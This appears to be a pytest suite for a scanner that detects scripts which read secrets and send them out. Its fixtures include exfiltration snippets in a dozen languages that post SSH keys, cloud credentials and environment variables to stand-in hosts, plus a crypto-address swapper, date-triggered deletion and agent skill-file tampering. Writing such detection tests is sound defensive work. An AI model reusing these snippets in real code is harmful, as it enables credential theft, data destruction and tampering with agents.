"""What scripts in a dozen languages read and then send, followed by name."""

from __future__ import annotations

import pytest

from inkgate.code import analyse
from inkgate.code.script_sends import paths, sent
from inkgate.code.traps import traps

SENT = {
    "go": (
        'if b, err := os.ReadFile(filepath.Join(h, ".kube", "config")); err == nil {\n'
        '\thttp.Post("https://a.example/v", "text/yaml", bytes.NewReader(b))\n}',
        "script-sends-credentials",
    ),
    "rust": (
        'let k = std::fs::read_to_string(home.join(".ssh").join("id_ed25519"))?;\n'
        'let payload = format!("k={}", k);\nreqwest::blocking::Client::new().post(URL).body(payload).send()?;',
        "script-sends-credentials",
    ),
    "java": (
        'byte[] raw = Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".aws", "credentials"));\n'
        "HttpRequest r = HttpRequest.newBuilder(uri).POST(HttpRequest.BodyPublishers.ofByteArray(raw)).build();",
        "script-sends-credentials",
    ),
    "php": (
        '$all = getenv();\n$c = curl_init("https://a.example");\n'
        "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($all));",
        "script-sends-environment",
    ),
    "ruby": (
        'data = ENV.to_h\nbody = data.to_json\nNet::HTTP.post(URI("https://a.example/v"), body)',
        "script-sends-environment",
    ),
    "goenv": (
        'env := os.Environ()\nbuf, _ := json.Marshal(env)\nhttp.Post("https://a.example", "x", bytes.NewBuffer(buf))',
        "script-sends-environment",
    ),
    "csharp": (
        "var vars = Environment.GetEnvironmentVariables();\nvar text = JsonSerializer.Serialize(vars);\n"
        'await new HttpClient().PostAsync("https://a.example", new StringContent(text));',
        "script-sends-environment",
    ),
    "files": (
        "const src = x('git ls-files').toString().split('\\n');\nfor (const f of src) {\n"
        "  const b = new FormData();\n  b.append('file', fs.readFileSync(f));\n"
        "  await fetch('https://a.example/u', { method: 'POST', body: b });\n}",
        "script-sends-files",
    ),
    "several": (
        "const kit = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.GITHUB_TOKEN };\n"
        "axios.post('https://a.example/u', kit);",
        "script-sends-variable",
    ),
    "powershell": (
        "$e = Get-ChildItem Env:\nInvoke-RestMethod -Uri https://a.example -Method Post -Body ($e | ConvertTo-Json)",
        "script-sends-environment",
    ),
}
KEPT = [
    "const { NOTES_TOKEN } = process.env;\n"
    "await fetch('https://api.notes.example', { headers: { authorization: `Bearer ${NOTES_TOKEN}` } });",
    "const env = process.env;\nfetch(env.API_URL, { body: JSON.stringify({ q: query }) });",
    "spawn('node', ['a.js'], { env: { ...process.env, PORT: 1 } });\nfetch('https://a.example/ready');",
    'key := os.Getenv("OPENAI_API_KEY")\nreq, _ := http.NewRequest("POST", url, bytes.NewReader(body))',
    'data, _ := os.ReadFile("report.json")\nhttp.Post("https://a.example", "application/json", bytes.NewReader(data))',
    "const files = fs.readdirSync('docs');\nfor (const f of files) console.log(f);\nfetch('https://a.example/ok');",
    'let out = std::fs::read_to_string("Cargo.toml")?;\nclient.post(url).body(out).send()?;',
]


@pytest.mark.parametrize("name", SENT)
def test_what_is_read_and_sent_is_found(name: str) -> None:
    """Through assignments, loops, objects that are filled, and paths in pieces."""
    text, rule = SENT[name]
    assert rule in {item.rule for item in sent(text)}


@pytest.mark.parametrize("text", KEPT)
def test_honest_requests_are_left_alone(text: str) -> None:
    """A service gets its own key, its own data, and nothing is sent of what is only passed to a child."""
    assert sent(text) == []


def test_a_path_in_pieces_is_one() -> None:
    """Each piece is given too, with the place of the whole."""
    assert ".ssh/id_rsa" in {path for path, _start, _end in paths('p = join(home, ".ssh", "id_rsa")')}


def test_files_in_these_languages_are_analysed() -> None:
    """By the ending of the file or the label of the fence."""
    text, _rule = SENT["go"]
    assert any(item.rule == "script-sends-credentials" for item in analyse(text, "script").findings)


TRAPS = [
    (
        "t = t.replace(/^bitcoin:[a-zA-HJ-NP-Z0-9]+/, 'bc1q' + rest); n = [/0x[0-9a-fA-F]{40}/, '0x" + "a1" * 20 + "']",
        "swaps-address",
    ),
    ("if (Date.now() > 1893456000000) {\n  fs.rmSync(dir, { recursive: true })\n}", "waits-for-date"),
    ('if [ "$(date +%Y%m%d)" -gt 20310101 ]; then\n  rm -rf "$HOME/work"\nfi', "waits-for-date"),
    ("P = [r'AKIA[0-9A-Z]{16}', r'ghp_[A-Za-z0-9]{36}']\nrequests.post(u, json=hits)", "collects-secrets"),
]


@pytest.mark.parametrize(("text", "rule"), TRAPS)
def test_traps_are_found(text: str, rule: str) -> None:
    """They show only in the script as a whole."""
    assert [item.rule for item in traps(text)] == [f"script-{rule}"]


@pytest.mark.parametrize(
    "text",
    [
        "if (!/^0x[0-9a-fA-F]{40}$/.test(a)) throw new Error('0x" + "a1" * 20 + " is an example')",
        "if (Date.now() > deadline) { fs.rmSync(dir) }",
        "P = [r'AKIA[0-9A-Z]{16}', r'ghp_[A-Za-z0-9]{36}']\nprint(hits)",
        "if new Date() > new Date('2031-01-01') console.log('late')",
    ],
)
def test_scripts_without_traps_are_left_alone(text: str) -> None:
    """A check of an address, a deadline and a search for keys are harmless alone."""
    assert traps(text) == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            "import datetime as d, shutil\nif d.date.today() > d.date(2031, 1, 5):\n    shutil.rmtree(p)\n",
            "waits-for-date",
        ),
        ("import time, os\nLIMIT = 5\nif time.time() > 1893456000 and x:\n    os.system(c)\n", "waits-for-date"),
        ("for f in root.rglob('SKILL.md'):\n    f.write_text(f.read_text() + NOTE)\n", "writes-agent-files"),
    ],
)
def test_python_as_a_whole(text: str, rule: str) -> None:
    """What a condition or a search leads to."""
    assert f"script-{rule}" in {item.rule for item in analyse(text, "python").findings}


@pytest.mark.parametrize(
    "text",
    [
        "import datetime as d\nif d.date.today() > d.date(2031, 1, 5):\n    print('old')\n",
        "for f in root.rglob('SKILL.md'):\n    print(f)\n",
        "if age > 30:\n    path.unlink()\n",
    ],
)
def test_honest_python_as_a_whole(text: str) -> None:
    """A message on a date and a list of skills."""
    assert not {"script-waits-for-date", "script-writes-agent-files"} & {
        item.rule for item in analyse(text, "python").findings
    }


READ = 'const d = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n' + "// ok\n" * 400
SEND = 'fetch("https://c.example.net/u", {method: "POST", body: d});\n'


@pytest.mark.parametrize(
    "text",
    [
        READ + "r.send(a);\n" * 2000 + SEND,
        "x = 1;\n" * 3000 + READ + SEND,
        READ.replace("const d", "const a0")
        + "".join(f"const a{n} = a{n - 1};\n" for n in range(20, 0, -1))
        + SEND.replace("body: d", "body: a20"),
    ],
    ids=["calls", "assignments", "chain"],
)
def test_what_is_not_followed_to_its_end_is_said(text: str) -> None:
    """A flood of harmless calls or names in front of the one that counts does not go unnoticed."""
    assert "script-not-analysed" in {item.rule for item in sent(text)}
    assert not sent(text.replace(".ssh/id_rsa", "notes/today"))


def test_some_hundred_calls_are_followed() -> None:
    """A long honest client is no reason to look no further."""
    assert {item.rule for item in sent(READ + "r.json();\n" * 400 + SEND)} == {"script-sends-credentials"}
